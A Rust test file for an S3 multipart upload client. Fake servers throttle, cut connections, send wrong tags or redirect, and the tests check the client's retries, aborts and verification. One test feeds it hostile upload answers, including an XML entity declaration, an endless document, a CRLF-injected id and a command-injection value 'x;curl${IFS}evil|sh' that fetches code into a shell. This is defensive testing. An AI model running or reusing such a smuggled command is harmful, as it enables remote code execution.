//! Servers of objects that are busy, lose connections, and do not have what was sent.

#![forbid(unsafe_code)]
#![allow(clippy::unwrap_used, reason = "a test fails by it")]

use std::io::Write as _;
use std::net::TcpStream;
use std::sync::atomic::AtomicBool;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use fetch::{Access, Account, Body, Error, Location, Proof, Stored, Upload};
use md5::{Digest as _, Md5};
use testkit::bucket::{Shared, answer, completed, created, error, hexadecimal};
use testkit::web::{Request, Server, reply};

const SECRET: &str = "s3cret-of-the-account";

/// Starts a server that answers by `fault`, and rightly where that returns `false`.
fn serve(
    fault: impl Fn(usize, &Request, &mut TcpStream) -> bool + Send + 'static,
) -> (Shared, Server, Location, Access) {
    let store = Shared::default();
    let theirs = store.clone();
    let server = Server::start(move |number, request, stream| {
        if !fault(number, request, stream) {
            answer(&theirs, request, stream);
        }
    });
    let access = access(&server);
    (store, server, "s3://bucket/disk.raw".parse().unwrap(), access)
}

fn access(server: &Server) -> Access {
    let endpoint = format!("http://{}", server.authority);
    let variable = |name: &str| match name {
        "AWS_ENDPOINT_URL" => Some(endpoint.clone()),
        "AWS_ACCESS_KEY_ID" => Some("AKIA".to_owned()),
        "AWS_SECRET_ACCESS_KEY" => Some(SECRET.to_owned()),
        _ => None,
    };
    Access { account: Some(Account::read(&variable).unwrap()), login: None }
}

/// Three parts, of which the last one is shorter.
fn image() -> Vec<u8> {
    (0..17_u32 << 18).flat_map(u32::to_le_bytes).collect()
}

fn upload(location: &Location, access: &Access, patience: u64) -> Result<Stored, Error> {
    upload_with(location, access, patience, false, true)
}

fn upload_with(
    location: &Location,
    access: &Access,
    patience: u64,
    replaces: bool,
    verify: bool,
) -> Result<Stored, Error> {
    let object = location.object(access.account.as_ref().unwrap()).unwrap();
    let (patience, stop) = (Duration::from_secs(patience), Arc::new(AtomicBool::new(false)));
    let mut upload = Upload::begin(object, 17 << 20, replaces, patience, stop)?;
    match upload.write_all(&image()) {
        Ok(()) => upload.finish(verify),
        Err(error) => Err(upload.cancel(Error::Write(error))),
    }
}

/// Sends the beginning of a success, as a server does while it puts an object together, and loses the connection.
fn begin_answer(stream: &mut TcpStream, beginning: &str) {
    let head = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n";
    write!(stream, "{head}1\r\n \r\n{beginning}").unwrap();
}

fn read(location: &Location, access: &Access) -> Result<Vec<u8>, Error> {
    let mut body = Body::open(location, access, Duration::from_secs(2))?;
    let (mut all, mut piece) = (Vec::new(), vec![0; 1 << 20]);
    loop {
        match body.read(&mut piece)? {
            0 => return Ok(all),
            count => all.extend_from_slice(&piece[..count]),
        }
    }
}

fn is(request: &Request, method: &str, query: &str) -> bool {
    request.method == method && request.path.contains(query)
}

#[test]
fn object_is_written_in_parts_and_read_in_ranges() {
    let (store, server, location, access) = serve(|_, _, _| false);
    let stored = upload(&location, &access, 0).unwrap();
    assert_eq!(stored, Stored { bytes: 17 << 20, parts: 3, proof: Proof::Hash("MD5") });
    assert!(store.lock().unwrap().object.as_deref() == Some(&image()));
    assert!(read(&location, &access).unwrap() == image());
    let requests = server.requests();
    for request in &requests {
        let authorization = request.header("authorization").unwrap();
        assert!(authorization.starts_with("AWS4-HMAC-SHA256 Credential=AKIA/"));
        assert!(!format!("{request:?}").contains(SECRET) && !request.path.contains("Signature"));
    }
    let complete = requests.iter().find(|it| is(it, "POST", "uploadId")).unwrap();
    assert_eq!(complete.header("if-none-match"), Some("*"));
    assert!(
        requests.iter().any(|it| it.first() == Some(3_000_000) && it.header("if-range").is_some())
    );
}

#[test]
fn r52_busy_server_and_cut_connections_are_tried_again() {
    // 0 begins the upload. Each of the next connections is lost or answered in vain.
    let (store, _, location, access) = serve(|number, request, stream| {
        match number {
            1 => reply(stream, "503 Slow Down", "", &error("SlowDown")),
            2 => {}
            3 => reply(stream, "400 Bad Request", "", &error("RequestTimeout")),
            _ if number % 3 == 0 && request.method == "PUT" => {}
            _ => return false,
        }
        true
    });
    let stored = upload(&location, &access, 20).unwrap();
    assert_eq!(stored.proof, Proof::Hash("MD5"));
    assert!(store.lock().unwrap().object.as_deref() == Some(&image()));
}

#[test]
fn tag_of_another_part_is_no_success() {
    let (store, _, location, access) = serve(|_, request, stream| {
        let is_second = is(request, "PUT", "partNumber=2");
        if is_second {
            let tag = hexadecimal(&Md5::digest(b"another"));
            reply(stream, "200 OK", &format!("ETag: \"{tag}\"\r\n"), b"");
        }
        is_second
    });
    let error = upload(&location, &access, 1).unwrap_err();
    assert!(matches!(error, Error::Damaged), "{error}");
    let store = store.lock().unwrap();
    assert!(store.object.is_none() && store.aborted == 1);
}

#[test]
fn error_in_a_success_is_no_success() {
    let (store, _, location, access) = serve(|_, request, stream| {
        let is_end = is(request, "POST", "uploadId");
        if is_end {
            reply(stream, "200 OK", "", &error("AccessDenied"));
        }
        is_end
    });
    let error = upload(&location, &access, 1).unwrap_err();
    assert!(error.to_string().contains("AccessDenied"), "{error}");
    let store = store.lock().unwrap();
    assert!(store.object.is_none() && store.aborted == 1);
}

#[test]
fn lost_answer_to_the_end_of_an_upload_is_found_out() {
    let store = Shared::default();
    let theirs = store.clone();
    let is_first = Mutex::new(true);
    let server = Server::start(move |_, request, stream| {
        let mut is_first = is_first.lock().unwrap();
        if is(request, "POST", "uploadId") && std::mem::take(&mut *is_first) {
            return theirs.lock().unwrap().complete();
        }
        answer(&theirs, request, stream);
    });
    let location = "s3://bucket/disk.raw".parse().unwrap();
    let stored = upload(&location, &access(&server), 10).unwrap();
    assert_eq!(stored.proof, Proof::Hash("MD5"));
    assert_eq!(store.lock().unwrap().aborted, 0);
}

#[test]
fn object_without_hashes_is_read_back() {
    // An opaque entity tag; then one byte of the object differs, and then one is missing.
    for fault in ["", "differs", "shorter"] {
        let store = Shared::default();
        let theirs = store.clone();
        let server = Server::start(move |_, request, stream| {
            answer(&theirs, request, stream);
            let mut store = theirs.lock().unwrap();
            if let (true, Some(object)) = (is(request, "POST", "uploadId"), &mut store.object) {
                match fault {
                    "differs" => object[9 << 20] ^= 1,
                    "shorter" => object.truncate(object.len() - 1),
                    _ => {}
                }
                store.tag = "opaque".to_owned();
            }
        });
        let location = "s3://bucket/disk.raw".parse().unwrap();
        let stored = upload(&location, &access(&server), 10);
        match (fault, stored) {
            ("", Ok(Stored { proof: Proof::ReadBack, .. })) => {}
            ("differs", Err(Error::Differs { start, end })) => {
                assert_eq!((start, end), (8 << 20, 16 << 20));
            }
            ("shorter", Err(Error::Unverified(error))) => {
                assert!(matches!(*error, Error::Size { .. }), "{error}");
            }
            (_, other) => panic!("{other:?}"),
        }
    }
}

#[test]
fn object_that_came_into_being_is_not_overwritten() {
    let (store, _, location, access) = serve(|_, request, stream| {
        let is_end = is(request, "POST", "uploadId") && request.header("if-none-match").is_some();
        if is_end {
            reply(stream, "412 Precondition Failed", "", &error("PreconditionFailed"));
        }
        is_end
    });
    let error = upload(&location, &access, 1).unwrap_err();
    assert!(error.to_string().contains("by another program"), "{error}");
    assert_eq!(store.lock().unwrap().aborted, 1);
}

#[test]
fn upload_that_cannot_be_aborted_is_named() {
    let (_, _, location, access) = serve(|_, request, stream| {
        let is_refused = request.method == "DELETE" || request.method == "PUT";
        if is_refused {
            reply(stream, "403 Forbidden", "", &error("AccessDenied"));
        }
        is_refused
    });
    let text = upload(&location, &access, 0).unwrap_err().to_string();
    assert!(text.contains("no permission"), "{text}");
    assert!(
        text.contains(
            "--bucket='bucket' --key='disk.raw' --upload-id='id/1' --endpoint-url='http://"
        ),
        "{text}"
    );
}

#[test]
fn x55_hostile_documents_do_not_begin_an_upload() {
    let entity = "<!DOCTYPE a [<!ENTITY b \"id\">]><InitiateMultipartUploadResult><UploadId>&b;</UploadId>\
                  </InitiateMultipartUploadResult>";
    let endless = format!("<InitiateMultipartUploadResult>{}", "<a>b</a>".repeat(1 << 20));
    for document in [
        entity.into(),
        endless.into(),
        created("a\r\nb"),
        created("x;curl${IFS}evil|sh"),
        created(&"a".repeat(1025)),
        b"<Other/>".to_vec(),
        vec![],
    ] {
        let (store, _, location, access) = serve(move |_, request, stream| {
            let is_first = is(request, "POST", "uploads");
            if is_first {
                reply(stream, "200 OK", "", &document);
            }
            is_first
        });
        let error = upload(&location, &access, 0).unwrap_err();
        assert!(matches!(error, Error::Answer(_) | Error::Cut), "{error}");
        assert!(store.lock().unwrap().parts.is_empty());
    }
}

#[test]
fn x56_redirections_of_a_bucket_are_not_followed() {
    let (_, other, _, _) = serve(|_, _, _| false);
    let url = format!("Location: http://{}/bucket/disk.raw\r\n", other.authority);
    let (_, _, location, access) = serve(move |_, _, stream| {
        let headers = format!("{url}x-amz-bucket-region: eu-central-1\r\n");
        reply(stream, "301 Moved Permanently", &headers, &error("PermanentRedirect"));
        true
    });
    for error in [read(&location, &access).unwrap_err(), upload(&location, &access, 0).unwrap_err()]
    {
        assert!(error.to_string().contains("AWS_REGION=eu-central-1"), "{error}");
    }
    assert!(other.requests().is_empty());
}

#[test]
fn object_that_was_replaced_while_it_is_read_is_refused() {
    let (store, _, location, access) = serve(|_, _, _| false);
    upload(&location, &access, 0).unwrap();
    let mut body = Body::open(&location, &access, Duration::from_secs(2)).unwrap();
    store.lock().unwrap().tag = "other".to_owned();
    let mut piece = vec![0; 1 << 20];
    let error = loop {
        match body.read(&mut piece) {
            Ok(count) => assert!(count > 0),
            Err(error) => break error,
        }
    };
    assert!(matches!(error, Error::Changed), "{error}");
}

#[test]
fn connection_lost_in_the_answer_to_the_end_is_no_failure() {
    // With the object put together and without; cut between chunks, and as a whole body that is empty or has no end.
    for is_done in [true, false] {
        for beginning in ["", "0\r\n\r\n", "6\r\n<a><b>\r\n0\r\n\r\n"] {
            let store = Shared::default();
            let (theirs, is_first) = (store.clone(), Mutex::new(true));
            let server = Server::start(move |_, request, stream| {
                let is_end = is(request, "POST", "uploadId");
                if !is_end || !std::mem::take(&mut *is_first.lock().unwrap()) {
                    return answer(&theirs, request, stream);
                }
                if is_done {
                    theirs.lock().unwrap().complete();
                }
                begin_answer(stream, beginning);
            });
            let location = "s3://bucket/disk.raw".parse().unwrap();
            let stored = upload(&location, &access(&server), 10).unwrap();
            assert_eq!(stored.proof, Proof::Hash("MD5"));
            assert_eq!(store.lock().unwrap().aborted, 0);
        }
    }
}

#[test]
fn own_object_is_known_where_the_condition_fails_again() {
    // The answer is lost; then the server finds an object: ours, or another one of the same size.
    for is_ours in [true, false] {
        let store = Shared::default();
        let (theirs, is_first) = (store.clone(), Mutex::new(true));
        let server = Server::start(move |_, request, stream| {
            if !is(request, "POST", "uploadId") {
                return answer(&theirs, request, stream);
            }
            if !std::mem::take(&mut *is_first.lock().unwrap()) {
                assert!(request.header("if-none-match").is_some());
                let document = error("PreconditionFailed");
                return reply(stream, "412 Precondition Failed", "", &document);
            }
            let mut store = theirs.lock().unwrap();
            store.complete();
            if !is_ours {
                store.object = Some(vec![7; 17 << 20]);
                store.tag = "other".to_owned();
            }
        });
        let location = "s3://bucket/disk.raw".parse().unwrap();
        let stored = upload(&location, &access(&server), 10);
        match (is_ours, stored) {
            (true, Ok(stored)) => assert_eq!(stored.proof, Proof::Hash("MD5")),
            (false, Err(error)) => {
                assert!(error.to_string().contains("by another program"), "{error}");
            }
            (_, other) => panic!("{other:?}"),
        }
        assert_eq!(store.lock().unwrap().aborted, usize::from(!is_ours));
    }
}

#[test]
fn old_object_of_the_same_size_is_no_success() {
    // The upload is gone after a failure, and yesterday's object is there. Nothing was to be verified.
    let (store, _, location, access) = serve(|number, request, stream| {
        let is_end = is(request, "POST", "uploadId");
        let (status, code) = match number {
            0..5 => ("500 Internal Server Error", "InternalError"),
            _ => ("404 Not Found", "NoSuchUpload"),
        };
        if is_end {
            reply(stream, status, "", &error(code));
        }
        is_end
    });
    let old = vec![7; 17 << 20];
    store.lock().unwrap().object = Some(old);
    let error = upload_with(&location, &access, 10, true, false).unwrap_err();
    assert!(error.to_string().contains("NoSuchUpload"), "{error}");
}

#[test]
fn object_with_another_tag_than_named_is_read_back() {
    let (_, _, location, access) = serve(|_, request, stream| {
        let is_end = is(request, "POST", "uploadId");
        if is_end {
            reply(stream, "200 OK", "", &completed("new"));
        }
        is_end
    });
    let stored = |store: &Shared, old: Vec<u8>| {
        let mut store = store.lock().unwrap();
        (store.object, store.tag) = (Some(old), "old".to_owned());
    };
    let (store, _, other, theirs) = serve(|_, request, stream| {
        let is_end = is(request, "POST", "uploadId");
        if is_end {
            reply(stream, "200 OK", "", &completed("new"));
        }
        is_end
    });
    stored(&store, vec![7; 17 << 20]);
    let error = upload_with(&other, &theirs, 1, true, false).unwrap_err();
    assert!(matches!(error, Error::Differs { start: 0, .. }), "{error}");
    // No object at all.
    let error = upload_with(&location, &access, 1, true, false).unwrap_err();
    assert!(matches!(error, Error::Gone), "{error}");
}

#[test]
fn server_without_conditional_writes_is_written_to() {
    for status in ["501 Not Implemented", "400 Bad Request"] {
        let code = if status.starts_with('5') { "NotImplemented" } else { "InvalidArgument" };
        let (store, server, location, access) = serve(move |_, request, stream| {
            let is_refused = request.header("if-none-match").is_some();
            if is_refused {
                reply(stream, status, "", &error(code));
            }
            is_refused
        });
        let stored = upload(&location, &access, 1).unwrap();
        assert_eq!(stored.proof, Proof::Hash("MD5"));
        assert!(store.lock().unwrap().object.as_deref() == Some(&image()));
        // It was asked again whether there is one.
        let requests = server.requests();
        let end = requests.iter().position(|it| is(it, "POST", "uploadId")).unwrap();
        assert_eq!(requests[end + 1].method, "HEAD");
        let error = upload(&location, &access, 1).unwrap_err();
        assert!(matches!(error, Error::Exists), "{error}");
    }
}

#[test]
fn credentials_that_only_write_suffice() {
    // The hash in the answer proves it; without one, only if nothing was to be verified.
    for (is_opaque, verify) in [(false, true), (true, false), (true, true)] {
        let (store, _, location, access) = serve(move |_, request, stream| {
            let is_denied = request.method == "HEAD";
            match () {
                () if is_denied => reply(stream, "403 Forbidden", "", b""),
                () if is_opaque && is(request, "POST", "uploadId") => {
                    reply(stream, "200 OK", "", &completed("opaque"));
                }
                () => return false,
            }
            true
        });
        match (is_opaque, verify, upload_with(&location, &access, 1, true, verify)) {
            (false, _, Ok(stored)) => assert_eq!(stored.proof, Proof::Hash("MD5")),
            (true, false, Ok(stored)) => assert_eq!(stored.proof, Proof::Nothing),
            (true, true, Err(error)) => {
                assert!(error.to_string().contains("object is there, but it is not"), "{error}");
            }
            (_, _, other) => panic!("{other:?}"),
        }
        assert_eq!(store.lock().unwrap().aborted, 0);
    }
}

#[test]
fn patience_counts_from_the_first_failure() {
    // The first attempt lasts longer than it.
    let is_first = Mutex::new(true);
    let (_, _, location, access) = serve(move |_, request, _| {
        let is_lost =
            is(request, "POST", "uploadId") && std::mem::take(&mut *is_first.lock().unwrap());
        if is_lost {
            std::thread::sleep(Duration::from_millis(2500));
        }
        is_lost
    });
    assert_eq!(upload(&location, &access, 2).unwrap().proof, Proof::Hash("MD5"));
}

#[test]
fn definite_failure_does_not_wait_for_other_parts() {
    let (store, _, location, access) = serve(|_, request, stream| {
        match () {
            () if is(request, "PUT", "partNumber=2") => {
                reply(stream, "403 Forbidden", "", &error("AccessDenied"));
            }
            () if request.method == "PUT" => {}
            () => return false,
        }
        true
    });
    let begin = Instant::now();
    let error = upload(&location, &access, 120).unwrap_err();
    assert!(error.to_string().contains("no permission"), "{error}");
    assert!(begin.elapsed() < Duration::from_secs(20));
    assert_eq!(store.lock().unwrap().aborted, 1);
}

#[test]
fn upload_that_is_dropped_is_aborted() {
    let (store, _, location, access) = serve(|_, _, _| false);
    let object = location.object(access.account.as_ref().unwrap()).unwrap();
    let stop = Arc::new(AtomicBool::new(false));
    drop(Upload::begin(object, 1, false, Duration::ZERO, stop).unwrap());
    assert_eq!(store.lock().unwrap().aborted, 1);
}
